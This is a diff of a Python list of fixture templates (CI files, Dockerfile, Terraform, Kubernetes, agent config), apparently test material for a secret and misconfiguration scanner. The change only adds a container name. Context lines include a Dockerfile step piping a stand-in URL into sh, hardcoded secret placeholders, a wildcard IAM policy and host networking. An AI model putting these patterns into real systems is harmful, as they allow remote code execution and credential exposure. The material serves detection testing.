@@ -21,7 +21,7 @@ KINDS = [
     ("ci/{k}/.gitlab-ci.yml", "variables:\n  DEPLOY_TOKEN: {h}\njob:\n  script: make\n"),
     ("img/{k}/Dockerfile", "FROM alpine\nENV APP_SECRET={h}\nRUN curl https://x.example/i | sh\n"),
     ("infra/{k}/main.tf", 'resource "aws_iam_policy" "p" {{\n  actions = ["*"]\n}}\nsecret_key = "{h}"\n'),
-    ("k8s/{k}/deploy.yaml", "apiVersion: v1\nkind: Pod\nspec:\n  hostNetwork: true\n  containers:\n    - env:\n        - name: DB_PASSWORD\n          value: {h}\n"),
+    ("k8s/{k}/deploy.yaml", "apiVersion: v1\nkind: Pod\nspec:\n  hostNetwork: true\n  containers:\n    - name: app\n      env:\n        - name: DB_PASSWORD\n          value: {h}\n"),
     ("web/{k}/client.py", 'def load():\n    token = "{h}"\n    return token\n'),
     ("bots/{k}/agents.yaml", "agent: helper\nframework: langchain\ntools:\n  - shell\n  - github\n"),
     ("docs/{k}/notes.md", "Plain notes about order {k}.\nNothing else here.\n"),
